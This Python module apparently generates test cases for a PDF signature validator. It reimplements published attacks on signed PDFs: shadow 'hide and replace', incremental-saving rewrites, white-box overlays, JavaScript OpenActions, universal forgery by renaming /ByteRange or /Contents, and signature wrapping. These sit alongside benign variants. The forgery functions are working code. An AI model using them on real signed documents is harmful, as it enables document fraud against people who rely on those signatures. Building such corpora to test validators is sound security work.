"""Attacks on signed PDFs, made by code from a paper of our own, after the published classes.

Shadow (NDSS 2021), incremental saving and universal forgery (CCS 2019), signature wrapping (CCS 2019), overlay (the
"evil annotation" and "sneaky signature" of S&P 2021). Each takes signed bytes and gives the forged file back.
"""

import re
import zlib
from io import BytesIO
from typing import Any

import pikepdf
from asn1crypto import algos, cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter


def appended(signed: bytes, change: Any) -> bytes:
    """An incremental update by the rules: `change(writer, page)` is what it does."""
    writer = IncrementalPdfFileWriter(BytesIO(signed), strict=False)
    page = writer.root["/Pages"]["/Kids"][0]
    change(writer, page)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def rewritten(signed: bytes) -> bytes:
    """Incremental saving: the page gets other words."""

    def change(writer: Any, page: Any) -> None:
        page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=b"BT /F1 24 Tf (Khac) Tj ET"))
        writer.update_container(page)

    return appended(signed, change)


def page_added(signed: bytes) -> bytes:
    def change(writer: Any, page: Any) -> None:
        pages = writer.root["/Pages"]
        extra = generic.DictionaryObject(
            {pdf_name("/Type"): pdf_name("/Page"), pdf_name("/Parent"): writer.root.raw_get("/Pages"),
             pdf_name("/MediaBox"): page.get("/MediaBox", generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))))}
        )  # fmt: skip
        pages["/Kids"].append(writer.add_object(extra))
        pages["/Count"] = generic.NumberObject(int(pages["/Count"]) + 1)
        writer.update_container(pages)

    return appended(signed, change)


def note(writer: Any, page: Any, rectangle: tuple[float, ...], paint: bytes, subtype: str = "/Stamp") -> None:
    """An annotation with a look of its own."""
    left, bottom, right, top = rectangle
    form = generic.StreamObject(
        {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
         pdf_name("/BBox"): generic.ArrayObject(map(generic.FloatObject, (0, 0, right - left, top - bottom)))},
        stream_data=paint,
    )  # fmt: skip
    annotation = generic.DictionaryObject(
        {pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name(subtype), pdf_name("/F"): generic.NumberObject(4),
         pdf_name("/Rect"): generic.ArrayObject(map(generic.FloatObject, rectangle)),
         pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(form)})}
    )  # fmt: skip
    listed = page.get("/Annots", generic.ArrayObject())
    page["/Annots"] = generic.ArrayObject([*listed, writer.add_object(annotation)])
    writer.update_container(page)


WHITE_BOX = b"1 1 1 rg 0 0 600 900 re f"
THIN_LINE = b"1 0 0 RG 1 w 0 0 m 20 20 l S"


def covered(signed: bytes) -> bytes:
    """Overlay: a white box over everything on the upper half of the page."""
    return appended(signed, lambda writer, page: note(writer, page, (20, 450, 580, 830), WHITE_BOX))


def noted(signed: bytes) -> bytes:
    """A red stroke where nothing stands: an addition, not a change."""
    return appended(signed, lambda writer, page: note(writer, page, (20, 20, 60, 60), THIN_LINE))


def scripted(signed: bytes) -> bytes:
    def change(writer: Any, _page: Any) -> None:
        action = {
            pdf_name("/S"): pdf_name("/JavaScript"),
            pdf_name("/JS"): generic.TextStringObject("app.alert(1)"),
        }
        writer.root["/OpenAction"] = generic.DictionaryObject(action)
        writer.update_root()

    return appended(signed, change)


def described(signed: bytes) -> bytes:
    """Other XMP: told, no change of the paper."""

    def change(writer: Any, _page: Any) -> None:
        stream = generic.StreamObject(
            {pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")},
            stream_data=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>",
        )
        writer.root["/Metadata"] = writer.add_object(stream)
        writer.update_root()

    return appended(signed, change)


def untouched(signed: bytes) -> bytes:
    """An update that changes nothing anybody sees."""
    return appended(signed, lambda writer, _page: writer.update_root())


def packed_anew(signed: bytes, words: bytes | None = None) -> bytes:
    """A program saved the page its own way: other notation of numbers, streams packed anew. With `words`, other content, too."""

    def change(writer: Any, page: Any) -> None:
        data = page["/Contents"].data if words is None else words
        stream = generic.StreamObject(encoded_data=zlib.compress(data, 1))
        stream[pdf_name("/Filter")] = pdf_name("/FlateDecode")
        page["/Contents"] = generic.ArrayObject([writer.add_object(stream)])
        page["/Rotate"] = generic.NumberObject(0)
        page["/MediaBox"] = generic.ArrayObject(
            [_Number(f"{side}0" if "." in str(side) else f"{side}.0") for side in page["/MediaBox"]]
        )
        writer.update_container(page)

    return appended(signed, change)


class _Number(generic.NullObject):
    """A number as somebody else's program writes it."""

    def __init__(self, text: str) -> None:
        self._text = text

    def write_to_stream(self, stream: Any, handler: Any = None, container_ref: Any = None) -> None:
        stream.write(self._text.encode())


def digest_misnamed(signed: bytes) -> bytes:
    """Genuine, by a careless program: the container names RSA with SHA-256 where the digest alone belongs."""
    start = signed.index(b"/Contents <") + len(b"/Contents <")
    end = signed.index(b">", start)
    container = cms.ContentInfo.load(bytes.fromhex(signed[start:end].decode()))
    person = container["content"]["signer_infos"][0]
    person["digest_algorithm"] = algos.DigestAlgorithm({"algorithm": "1.2.840.113549.1.1.11"})
    der: bytes = container.dump()
    written = der.ljust((end - start) // 2, b"\0").hex().encode()
    return signed[:start] + (written if signed[start:end].islower() else written.upper()) + signed[end:]


def saved_anew(signed: bytes) -> bytes:
    """A viewer's "save as": the signature stays in the form and fits nothing any more."""
    output = BytesIO()
    with pikepdf.open(BytesIO(signed)) as document:
        document.save(output, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return output.getvalue()


def hidden_switch(signed: bytes) -> bytes:
    """Shadow, "hide and replace": an object smuggled into the signed part becomes the page by a new cross-reference alone.

    The decoy stands in the signed bytes (see `with_decoy`); the update holds nothing but a table that points to it.
    """
    place = signed.index(b"% decoy\n") + len(b"% decoy\n")
    number = int(signed[place:].split(b" ", 1)[0])
    previous = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    root = re.findall(rb"/Root (\d+ \d+ R)", signed)[-1].decode()
    size = max(map(int, re.findall(rb"/Size (\d+)", signed)))
    start = len(signed)
    table = f"xref\n{number} 1\n{place:010d} 00000 n \ntrailer\n<< /Size {size} /Root {root} /Prev {previous} >>\n"
    return signed + f"{table}startxref\n{start}\n%%EOF\n".encode()


def unregistered(signed: bytes) -> bytes:
    """Incremental saving without a cross-reference: some programs repair the file and show the new object."""
    return signed + b"4 0 obj\n<< /Length 24 >>\nstream\nBT /F1 24 Tf (X) Tj ET  \nendstream\nendobj\n"


def universal(signed: bytes, kind: str) -> bytes:
    """Universal forgery: the byte range or the container is emptied, or its key renamed."""
    if kind == "no_contents":
        return signed.replace(b"/Contents <", b"/Contentz <", 1)
    if kind == "no_range":
        return signed.replace(b"/ByteRange", b"/ByteRangf")
    if kind == "empty_contents":
        return re.sub(rb"/Contents <[0-9a-fA-F]{20}", b"/Contents <" + b"0" * 20, signed)
    return re.sub(
        rb"/ByteRange \[[^\]]*\]", lambda match: b"/ByteRange [0 0 0 0]".ljust(len(match[0])), signed
    )


def wrapped(signed: bytes) -> bytes:
    """Signature wrapping: the second covered part is moved behind, something else stands in its old place."""
    match = re.search(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]( *)", signed)
    assert match
    first, resume, rest = (int(match[number]) for number in (1, 2, 3))
    malicious = b"\n4 0 obj\n<< /Length 0 >>\nstream\n\nendstream\nendobj\n"
    moved = signed[:resume] + malicious + signed[resume:]
    text = f"/ByteRange [0 {first} {resume + len(malicious)} {rest}]".encode()
    return moved[: match.start()] + text.ljust(len(match[0])) + moved[match.end() :]
